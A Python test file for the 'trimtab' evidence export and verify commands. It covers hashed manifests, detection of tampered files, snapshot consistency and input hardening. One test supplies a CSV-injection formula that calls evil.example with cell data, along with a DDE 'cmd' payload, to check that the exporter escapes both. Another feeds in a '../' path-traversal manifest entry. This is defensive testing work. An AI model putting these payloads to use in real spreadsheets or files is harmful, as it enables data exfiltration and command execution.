"""`trimtab export evidence` / `export verify`: a bundle of a system's evidence with a
manifest of sha256 hashes; any changed, missing or added file is named."""

import csv
import hashlib
import json
from datetime import UTC, datetime, timedelta

import pytest

import trimtab
from trimtab.store.audit import entry_hash

SYSTEM = "complaint-router"


def since(hours: float = 1) -> datetime:
    return datetime.now(UTC) - timedelta(hours=hours)


@pytest.fixture
def bundle(live, tmp_path):
    """A live system with calls, a score and an incident, exported: (ws, bundle)."""
    ws, _ = live
    ids = [ws.record(SYSTEM, {"text": f"seal {i}"}, {"team": "packaging"}, 9.0, user=f"u-{i}")
           for i in range(3)]
    ws.record("legacy-scorer", {"x": 1}, {"y": 1}, 1.0)  # another system: not in the bundle
    assert ws.flush()
    ws.score(ids[0], "helpful", 1.0)
    ws.open_incident(SYSTEM, severity="low", summary="slow answers")
    return ws, ws.export_evidence(SYSTEM, since=since(), out=tmp_path / "bundle")


def test_the_bundle_holds_every_table_the_documents_and_a_manifest(bundle):
    ws, made = bundle
    folder = made.path
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["format"] == "trimtab-evidence/1" and manifest["system"] == SYSTEM
    assert made.rows["calls"] == 3 and made.rows["releases"] == 1
    assert made.rows["deployments"] == 3 and made.rows["incidents"] == 1
    assert manifest["tables"] == made.rows
    for name in ("calls", "releases", "deployments", "audit", "approval_requests",
                 "approval_votes", "incidents", "incident_notes", "eval_runs", "reviews"):
        assert f"data/{name}.json" in manifest["files"] and f"data/{name}.csv" in \
            manifest["files"]
    docs = [p for p in manifest["files"] if p.startswith("documents/")]
    assert made.documents == len(docs) >= 3 and all(p.endswith(".md") for p in docs)
    for relative, entry in manifest["files"].items():  # the hashes are the files'
        data = (folder / relative).read_bytes()
        assert entry == {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}

    calls = json.loads((folder / "data" / "calls.json").read_text())
    assert {c["system"] for c in calls} == {SYSTEM} and len(calls) == 3
    with open(folder / "data" / "calls.csv", newline="") as handle:
        assert len(list(csv.DictReader(handle))) == 3

    # Audit entries come out exactly as stored: each re-hashes to its own hash.
    entries = json.loads((folder / "data" / "audit.json").read_text())
    assert entries and all(e["system"] == SYSTEM for e in entries)
    for e in entries:
        fields = {k: e[k] for k in ("seq", "actor", "action", "object_type", "object_id",
                                    "system", "payload", "prev_hash")}
        assert entry_hash(time=datetime.fromisoformat(e["time"]), **fields) == e["hash"]

    head = manifest["audit_head"]
    assert (head["seq"], head["hash"]) == made.audit_head and manifest["audit_chain"]["ok"]
    [recorded] = ws.audit_log(action="evidence.export")
    assert recorded.object_id == made.manifest_sha256 and recorded.seq == head["seq"] + 1
    assert json.loads(recorded.payload)["tables"]["calls"] == 3
    assert ws.verify_audit().ok

    verdict = ws.verify_evidence(folder, expect=made.manifest_sha256)
    assert verdict.ok and verdict.checked == len(manifest["files"]) and not verdict.findings


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # files only
def test_tampering_is_named_file_by_file(bundle):
    ws, made = bundle
    folder = made.path
    calls_csv = folder / "data" / "calls.csv"
    calls_csv.write_text(calls_csv.read_text().replace("packaging", "electrical", 1))
    (folder / "data" / "audit.json").unlink()
    (folder / "documents" / "extra.md").write_text("added later\n")
    verdict = ws.verify_evidence(folder)
    assert not verdict.ok
    assert {(f.path, f.problem) for f in verdict.findings} == {
        ("data/calls.csv", "changed"), ("data/audit.json", "missing"),
        ("documents/extra.md", "added")}


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # files only
def test_a_rewritten_manifest_is_caught_by_the_recorded_hash(bundle):
    ws, made = bundle
    folder = made.path
    target = folder / "data" / "incidents.json"
    target.write_text(target.read_text().replace("slow answers", "nothing happened"))
    manifest = json.loads((folder / "manifest.json").read_text())
    data = target.read_bytes()
    manifest["files"]["data/incidents.json"] = {"sha256": hashlib.sha256(data).hexdigest(),
                                                "bytes": len(data)}
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    assert ws.verify_evidence(folder).ok  # consistent with itself...
    verdict = ws.verify_evidence(folder, expect=made.manifest_sha256)
    assert not verdict.ok and verdict.findings[0].path == "manifest.json"  # ...not the record

    manifest["files"]["../outside.txt"] = {"sha256": "0" * 64, "bytes": 1}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    findings = ws.verify_evidence(folder).findings
    assert ("../outside.txt", "unsafe") in {(f.path, f.problem) for f in findings}
    (folder / "manifest.json").write_text("[]")
    assert "not a trimtab-evidence/1 manifest" in ws.verify_evidence(folder).findings[0].detail
    (folder / "manifest.json").write_text("{not json")
    assert ws.verify_evidence(folder).findings[0].problem == "changed"
    (folder / "manifest.json").write_text("[" * 200_000 + "]" * 200_000)  # was RecursionError
    assert (ws.verify_evidence(folder).findings[0].problem,
            ws.verify_evidence(folder).findings[0].detail) == \
        ("changed", "JSON nested too deep to be a manifest")
    (folder / "manifest.json").unlink()
    assert ws.verify_evidence(folder).findings[0].problem == "missing"


def test_exports_are_bounded_and_refuse_what_they_cannot_do_whole(live, tmp_path):
    ws, _ = live
    for i in range(3):
        ws.record(SYSTEM, {"text": str(i)}, {"team": "x"}, 1.0)
    assert ws.flush()
    with pytest.raises(trimtab.TrimtabError,
                       match=r"would hold calls 3, deployments 3, audit \d+ rows, more than "
                             r"--max-rows 2"):
        ws.export_evidence(SYSTEM, since=since(), out=tmp_path / "a", max_rows=2)
    assert not (tmp_path / "a").exists()
    for nothing in (0, -1):  # 0 is no row, not the default
        with pytest.raises(trimtab.TrimtabError, match=f"--max-rows {nothing}: must be at "
                           "least 1. Fix:"):
            ws.export_evidence(SYSTEM, since=since(), out=tmp_path / "a", max_rows=nothing)
    assert not (tmp_path / "a").exists()
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "x").write_text("x")
    with pytest.raises(trimtab.TrimtabError, match="not an empty folder"):
        ws.export_evidence(SYSTEM, since=since(), out=tmp_path / "full")
    with pytest.raises(trimtab.TrimtabError, match="nothing about system 'nope'"):
        ws.export_evidence("nope", since=since(), out=tmp_path / "b")
    with pytest.raises(trimtab.TrimtabError, match="in the future"):
        ws.export_evidence(SYSTEM, since=datetime.now(UTC) + timedelta(days=1),
                           out=tmp_path / "c")


def test_export_commands(cli, project_dir, database_url, tmp_path):
    with trimtab.connect(project_dir, database_url=database_url) as ws:
        release, _ = ws.release(SYSTEM)
        ws.promote(SYSTEM, release.id, "dev")
        ws.record(SYSTEM, {"text": "leak"}, {"team": "packaging"}, 3.0)
        assert ws.flush()
    out = tmp_path / "ev"
    made = json.loads(cli("export", "evidence", SYSTEM, "--since", "1d", "--out", str(out),
                          "--json").stdout)
    assert made["rows"]["calls"] == 1 and made["chain_ok"] is True
    checked = cli("export", "verify", str(out), "--expect", made["manifest_sha256"]).stdout
    assert "ok" in checked and made["manifest_sha256"] in checked
    (out / "data" / "calls.json").write_text("[]\n")
    broken = cli("export", "verify", str(out), expect=1).stdout
    assert "data/calls.json" in broken and "changed" in broken
    listed = json.loads(cli("export", "verify", str(out), "--json", expect=1).stdout)
    assert listed["findings"][0]["path"] == "data/calls.json"
    text = cli("export", "evidence", SYSTEM, "--since", "1d", "--out",
               str(tmp_path / "ev2")).stdout
    assert "manifest sha256" in text and "wrote" in text
    bad = cli("export", "evidence", SYSTEM, "--since", "soon", expect=2).output
    assert "--since 'soon'" in bad and "Traceback" not in bad


def test_freezes_holds_drills_independent_reviews_and_labels_are_in_the_bundle(live, tmp_path):
    """The governance records of the system come out with it: an incident's freeze and
    legal hold, drills, independent reviews with their findings, and ground truth."""
    ws, _ = live
    ids = [ws.record(SYSTEM, {"text": f"seal {i}"}, {"team": "packaging"}, 9.0)
           for i in range(2)]
    other = ws.record("legacy-scorer", {"x": 1}, {"y": 1}, 1.0)
    assert ws.flush()
    ws.label(ids[0], "packaging")
    ws.label(other, "1")  # another system's label: not in the bundle
    incident = ws.open_incident(SYSTEM, severity="critical", summary="safety mail to billing")
    ws.record_drill(SYSTEM, scenario="the provider is down for an hour",
                    participants=["alice@example.com"], findings="fallback held")
    review = ws.record_independent_review(SYSTEM, reviewer="dana@audit.example.com",
                                          organisation="Internal audit", scope="all",
                                          findings=["no DPO named", "two languages only"])
    ws.close_finding(review.findings[0].id, resolution="named in the runbook")
    cut = datetime.now(UTC)

    made = ws.export_evidence(SYSTEM, since=since(), out=tmp_path / "bundle")
    new = ("freezes", "legal_holds", "drills", "assurance_reviews", "assurance_findings",
           "labels")
    assert {name: made.rows[name] for name in new} == {
        "freezes": 1, "legal_holds": 1, "drills": 1, "assurance_reviews": 1,
        "assurance_findings": 2, "labels": 1}
    manifest = json.loads((made.path / "manifest.json").read_text())
    data = {}
    for name in new:
        assert f"data/{name}.csv" in manifest["files"]
        data[name] = json.loads((made.path / "data" / f"{name}.json").read_text())
        assert {row["system"] for row in data[name]} == {SYSTEM}
    assert [f["incident_id"] for f in data["freezes"]] == [incident.id]
    assert [h["incident_id"] for h in data["legal_holds"]] == [incident.id]
    assert data["drills"][0]["scenario"] == "the provider is down for an hour"
    assert data["assurance_reviews"][0]["reviewer"] == "dana@audit.example.com"
    assert [f["status"] for f in data["assurance_findings"]] == ["closed", "open"]
    assert [row["call_id"] for row in data["labels"]] == [ids[0]]
    assert ws.verify_evidence(made.path, expect=made.manifest_sha256).ok

    # A later window keeps what was still in force or open in it: the freeze and hold
    # (not lifted), the review (a finding still open); not the drill, not the label.
    later = ws.export_evidence(SYSTEM, since=cut, out=tmp_path / "later")
    assert {name: later.rows[name] for name in new} == {
        "freezes": 1, "legal_holds": 1, "drills": 0, "assurance_reviews": 1,
        "assurance_findings": 2, "labels": 0}


def test_a_bundle_is_one_moment_while_calls_keep_arriving(live, tmp_path, project_dir,
                                                          database_url):
    """On PostgreSQL each statement of a READ COMMITTED transaction saw its own
    moment: a call recorded during the export was in calls.json but not in the
    manifest's count (nor the audited one). The export reads one snapshot."""
    ws, _ = live
    ws.record(SYSTEM, {"text": "seal"}, {"team": "packaging"}, 9.0)
    assert ws.flush()
    with trimtab.connect(project_dir, database_url=database_url) as other:
        def progress(name: str, total: int):
            if name in ("calls", "audit"):  # another process writes while these are read
                other.record(SYSTEM, {"text": "late"}, {"team": "packaging"}, 9.0)
                assert other.flush()
                other.open_incident(SYSTEM, severity="low", summary=f"during {name}")
            return lambda done: None

        made = ws.export_evidence(SYSTEM, since=since(), out=tmp_path / "b", progress=progress)
    for name in ("calls", "audit", "incidents"):
        rows = json.loads((made.path / "data" / f"{name}.json").read_text())
        assert len(rows) == made.rows[name], name
    assert made.rows["calls"] == 1 and made.rows["incidents"] == 0
    entries = json.loads((made.path / "data" / "audit.json").read_text())
    assert entries[-1]["seq"] <= made.audit_head[0]
    assert len(ws.calls(system=SYSTEM, limit=10)) == 3  # they were written, after the moment


def test_a_recorded_text_is_no_spreadsheet_formula_in_the_csv(live, tmp_path):
    """The CSV is opened in a spreadsheet; the JSON beside it keeps the value as is."""
    ws, _ = live
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
    ws.record(SYSTEM, {"text": "x"}, "ok", 9.0, user=formula, model="+cmd|' /C calc'!A0")
    assert ws.flush()
    folder = ws.export_evidence(SYSTEM, since=since(), out=tmp_path / "bundle").path
    with open(folder / "data" / "calls.csv", newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert row["user_id"] == "'" + formula and row["model"] == "'+cmd|' /C calc'!A0"
    assert row["latency_ms"] == "9.0"
    (call,) = json.loads((folder / "data" / "calls.json").read_text())
    assert call["user_id"] == formula


def test_the_inventory_oversight_and_monitoring_records_are_in_the_bundle(live, tmp_path):
    """A bundle left out the system's own inventory record (owner, risk, tier: only
    in the audit when registered inside the window), the kill switch's uses, the
    review sample's calls, scores, flags, alert events, drift results and the records
    the log is missing; an auditor had the audit payloads at most."""
    from trimtab.store import drops

    ws, _ = live
    ids = [ws.record(SYSTEM, {"text": f"seal {i}"}, {"team": "packaging"}, 9.0,
                     env="production") for i in range(3)]
    assert ws.flush()
    ws.suspend(SYSTEM, "production", reason="answers go to the wrong team")
    ws.resume(SYSTEM, "production", reason="prompt fixed")
    ws.score(ids[0], "helpful", 1.0)
    ws.flag(ids[1], "odd answer")
    sample, _ = ws.review_sample(SYSTEM, size=3)
    with ws.store.ingest() as conn:
        drops.add(conn, "gateway-1", datetime.now(UTC), {(SYSTEM, "production"): 7,
                                                         ("legacy-scorer", "production"): 2})

    made = ws.export_evidence(SYSTEM, since=since(), out=tmp_path / "bundle")
    new = ("systems", "suspensions", "scores", "call_flags", "review_samples", "review_items",
           "recording_drops", "alert_events", "drift_results")
    assert {name: made.rows[name] for name in new} == {
        "systems": 1, "suspensions": 2, "scores": 1, "call_flags": 1, "review_samples": 1,
        "review_items": 3, "recording_drops": 1, "alert_events": 0, "drift_results": 0}
    manifest = json.loads((made.path / "manifest.json").read_text())
    data = {name: json.loads((made.path / "data" / f"{name}.json").read_text())
            for name in new}
    assert all(f"data/{name}.csv" in manifest["files"] for name in new)
    [system] = data["systems"]
    assert (system["name"], system["risk"], system["owner"]) == \
        (SYSTEM, "limited", "quality-team@example.com")
    assert [s["action"] for s in data["suspensions"]] == ["suspend", "resume"]
    assert [f["call_id"] for f in data["call_flags"]] == [ids[1]]
    assert data["review_samples"][0]["id"] == sample.id
    assert {i["call_id"] for i in data["review_items"]} <= set(ids)
    assert [d["dropped"] for d in data["recording_drops"]] == [7]
    assert ws.verify_evidence(made.path, expect=made.manifest_sha256).ok

    # The inventory record comes however old; the rest only from the window on.
    later = ws.export_evidence(SYSTEM, since=datetime.now(UTC), out=tmp_path / "later")
    assert {n: c for n, c in later.rows.items() if c} == {"systems": 1, "releases": 1}
